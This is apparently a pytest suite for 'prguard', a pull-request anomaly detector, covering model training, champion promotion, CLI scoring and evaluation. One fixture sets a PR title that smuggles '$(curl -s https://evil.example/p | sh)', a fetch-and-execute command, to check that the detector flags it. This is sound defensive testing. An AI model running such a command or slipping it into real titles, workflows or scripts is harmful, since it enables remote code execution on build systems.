"""`prguard train`, `score` and `evaluate` end to end on the embedded MLflow store (sqlite under the data dir)."""
from __future__ import annotations

import dataclasses
import json

import pytest
from click.testing import CliRunner
from mlflow.tracking import MlflowClient

from batch.train import TrainConfig, train
from prguard.cli import main
from prguard.config import Settings
from prguard.model import registry
from app import jobs
from app.publisher import GitHubPublisher
from app.scoring_job import Connection, JobContext
from app.worker import Worker
from prguard.features.extraction import sensitive_files
from prguard.store.sqlite import SQLiteStore
from tests.support import workflows as W
from tests.support.pr_content import changed, hunk
from tests.support.training_data import make_prs, write_feature_set
from tests.support.pull_requests import pull_request
from tests.support.worker_fakes import FakeInstallationClient

pytestmark = pytest.mark.slow
CONFIG = TrainConfig(epochs=20, seed=11)
FINDING_KEYS = {"findings", "finding_notes", "unusual"}
REPO, BASE, HEAD = "acme/api", "c" * 40, "d" * 40


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """A data dir with one feature set and a first trained model (shared: MLflow set-up is slow)."""
    data_dir = tmp_path_factory.mktemp("var")
    settings = Settings.from_env({"PRGUARD_DATA_DIR": str(data_dir)})
    docs = make_prs(360, seed=21, anomalies=8)
    featureset_id = write_feature_set(settings, docs)
    lines: list[str] = []
    first = train(settings, featureset_id, CONFIG, echo=lines.append)
    return settings, docs, featureset_id, first, lines


def run_of(settings, version):
    client = MlflowClient(tracking_uri=settings.tracking_uri, registry_uri=settings.tracking_uri)
    model_version = client.get_model_version(settings.model_name, version)
    return client, client.get_run(model_version.run_id)


def test_a_good_first_model_becomes_champion_with_its_decision_recorded(workspace):
    settings, _, _, first, lines = workspace
    assert first.decision.promote
    assert registry.champion_version(settings) == first.version == "1"
    client, run = run_of(settings, first.version)
    assert run.data.tags["champion_decision"] == "promoted"
    assert run.data.params["champion_decision"] == "promoted"
    assert "no current champion" in run.data.tags["champion_reason"]
    curve = client.get_metric_history(run.info.run_id, "validation_loss")
    assert len([m for m in curve if m.step]) == first.metrics["epochs_run"]  # one point per epoch
    artifacts = {a.path for a in client.list_artifacts(run.info.run_id)}
    assert {"loss_curve.png", "error_histogram.png"} <= artifacts
    assert 0.005 <= first.metrics["validation_alert_rate"] <= 0.15
    assert any(line.startswith("epoch   1/") for line in lines)  # progress per epoch
    assert (settings.mlflow_artifact_root).is_dir()  # local artifacts live under the data dir


def test_training_twice_gives_the_same_scores_and_an_equal_model_may_take_over(workspace):
    settings, docs, featureset_id, first, _ = workspace
    again = train(settings, featureset_id, CONFIG, echo=lambda _: None)
    scores = [r["score"] for r in first.bundle.score(docs)]
    assert [r["score"] for r in again.bundle.score(docs)] == scores
    assert again.decision.promote  # not worse than the champion on the same validation rows
    assert registry.champion_version(settings) == again.version


def test_a_worse_model_does_not_replace_the_champion(workspace):
    settings, _, featureset_id, _, _ = workspace
    before = registry.champion_version(settings)
    worse = train(settings, featureset_id, dataclasses.replace(CONFIG, epochs=1, learning_rate=1e-4),
                  echo=lambda _: None)
    assert not worse.decision.promote
    assert "worse than the champion" in worse.decision.reason
    assert registry.champion_version(settings) == before
    _, run = run_of(settings, worse.version)
    assert run.data.tags["champion_decision"] == "rejected"


def test_a_feature_version_mismatch_refuses_the_champion(workspace):
    settings, docs, _, _, _ = workspace
    before = registry.champion_version(settings)
    stale_set = write_feature_set(settings, docs, feature_version="0-stale")
    outcome = train(settings, stale_set, CONFIG, echo=lambda _: None)
    assert not outcome.decision.promote and "feature version" in outcome.decision.reason
    assert registry.champion_version(settings) == before


def test_score_cli_writes_one_result_line_per_pr(workspace, tmp_path):
    settings, docs, _, _, _ = workspace
    source = tmp_path / "prs.jsonl"
    source.write_text("".join(json.dumps(doc) + "\n" for doc in docs[-30:]))
    env = {"PRGUARD_DATA_DIR": str(settings.data_dir)}
    result = CliRunner().invoke(main, ["score", str(source), "--output", str(tmp_path / "out.jsonl")], env=env)
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [line["number"] for line in lines] == [doc["number"] for doc in docs[-30:]]
    champion = registry.load_champion(settings)
    model_part = [{k: v for k, v in line.items() if k not in FINDING_KEYS} for line in lines]
    assert model_part == json.loads(json.dumps(champion.score(docs[-30:])))  # the service's path, identically
    assert all(set(line) >= FINDING_KEYS for line in lines)
    assert {line["model_version"] for line in lines} == {registry.champion_version(settings)}
    assert any(line["anomalous"] for line in lines)  # the labelled attacks are among the newest PRs
    stdin = CliRunner().invoke(main, ["score", "-"], input=source.read_text(), env=env)
    assert stdin.exit_code == 0
    assert [json.loads(x) for x in stdin.stdout.splitlines()] == lines


def test_score_cli_and_the_service_give_the_same_findings_and_verdict(workspace, tmp_path):
    """The same PR (patches, and its workflow at base and head) through `prguard score` and the worker."""
    settings, _, _, _, _ = workspace
    path = ".github/workflows/preview.yml"
    base_text = W.PWN_REQUEST.replace("pull_request_target:", "pull_request:")
    patch = hunk(3, ["on:"], ["  pull_request:"], ["  pull_request_target:"])
    doc = pull_request(changed(path, patch), repo=REPO, number=77, head_sha=HEAD)
    doc["base"]["sha"] = BASE
    doc["title"] = "ci: previews for $(curl -s https://evil.example/p | sh)"
    source = tmp_path / "pr.jsonl"
    line_doc = dict(doc, workflow_contents={"base": {path: base_text}, "head": {path: W.PWN_REQUEST}})
    source.write_text(json.dumps(line_doc) + "\n")
    result = CliRunner().invoke(main, ["score", str(source)], env={"PRGUARD_DATA_DIR": str(settings.data_dir)})
    assert result.exit_code == 0, result.output
    (cli_line,) = [json.loads(x) for x in result.stdout.splitlines()]

    store = SQLiteStore(tmp_path / "service.sqlite3")
    client = FakeInstallationClient(pulls={(REPO, 77): doc}, files={(REPO, 77): doc["files"]},
                                    contents={(REPO, BASE): {path: base_text}, (REPO, HEAD): {path: W.PWN_REQUEST}})
    connection = Connection(client, GitHubPublisher(store, client))
    champion = registry.load_champion(settings)
    context = JobContext(store=store, settings=settings, current_model=lambda: champion,
                         connect=lambda installation_id: connection, sensitive_files=sensitive_files)
    jobs.enqueue(store, jobs.ScorePullRequest(REPO, 77, HEAD, 1, "d-1"))
    assert Worker(store, context, settings, "w1").run_once()
    recorded = store.checks.get_score(REPO, HEAD)
    store.close()
    assert cli_line["findings"] == recorded["findings"] and cli_line["unusual"] == recorded["unusual"] is True
    expected = {"prguard/pwn-request", "prguard/attacker-string", "zizmor/dangerous-triggers"}
    assert {f["rule_id"] for f in cli_line["findings"]} >= expected
    assert cli_line["score"] == pytest.approx(recorded["score"])


def test_score_cli_says_what_to_do_without_a_champion(tmp_path):
    source = tmp_path / "prs.jsonl"
    source.write_text(json.dumps(make_prs(1)[0]) + "\n")
    result = CliRunner().invoke(main, ["score", str(source)], env={"PRGUARD_DATA_DIR": str(tmp_path / "var")})
    assert result.exit_code != 0
    assert "prguard train" in result.output


def test_evaluate_reports_both_detectors_and_logs_them(workspace, tmp_path):
    settings, docs, _, _, _ = workspace
    labelled = make_prs(150, seed=77, anomalies=12)
    source = tmp_path / "labelled.jsonl"
    source.write_text("".join(json.dumps(doc) + "\n" for doc in labelled))
    result = CliRunner().invoke(main, ["evaluate", str(source)], env={"PRGUARD_DATA_DIR": str(settings.data_dir)})
    assert result.exit_code == 0, result.output
    table = {line.split()[0]: line.split()[1:] for line in result.output.splitlines()
             if line.startswith(("autoencoder", "isolation_forest"))}
    assert set(table) == {"autoencoder", "isolation_forest"}
    auroc = float(table["autoencoder"][0])
    assert 0.8 < auroc <= 1.0  # the archetypes are far from this synthetic normal data
    client = MlflowClient(tracking_uri=settings.tracking_uri)
    experiment = client.get_experiment_by_name(registry.EVALUATION_EXPERIMENT)
    run = client.search_runs([experiment.experiment_id])[0]
    assert run.data.metrics["autoencoder_auroc"] == pytest.approx(auroc, abs=1e-3)
    assert "isolation_forest_auprc" in run.data.metrics
    # The content breakdown: every archetype of the file, for findings alone, the model alone and both.
    archetypes = {"workflow_curl_pipe", "binary_blob", "mass_deletion", "branch_injection"}
    rows = {line.split()[0]: line.split()[1:] for line in result.output.splitlines()
            if line.split() and line.split()[0] in archetypes}
    assert set(rows) == archetypes
    assert rows["workflow_curl_pipe"][1] == "100.0%"  # the findings catch the curl | bash in CI
    assert "content_both_alert_rate" in run.data.metrics


def test_evaluate_needs_both_classes(workspace, tmp_path):
    settings = workspace[0]
    source = tmp_path / "unlabelled.jsonl"
    source.write_text("".join(json.dumps(doc) + "\n" for doc in make_prs(10)))
    result = CliRunner().invoke(main, ["evaluate", str(source)], env={"PRGUARD_DATA_DIR": str(settings.data_dir)})
    assert result.exit_code != 0 and "both" in result.output


def test_train_cli_passes_its_options_and_reports_the_decision(workspace):
    settings, _, featureset_id, _, _ = workspace
    before = registry.champion_version(settings)
    result = CliRunner().invoke(main, ["train", "--featureset", featureset_id, "--epochs", "3", "--seed", "2",
                                       "--threshold-k", "3", "--max-alert-rate", "0.0001"],
                                env={"PRGUARD_DATA_DIR": str(settings.data_dir)})
    assert result.exit_code == 0, result.output
    assert "epoch   3/3" in result.output and "epoch   4/" not in result.output
    assert "not promoted" in result.output and "alert rate" in result.output
    assert registry.champion_version(settings) == before


def test_train_cli_without_a_feature_set_says_what_to_run(tmp_path):
    result = CliRunner().invoke(main, ["train"], env={"PRGUARD_DATA_DIR": str(tmp_path / "var")})
    assert result.exit_code != 0
    assert "prguard preprocess" in result.output
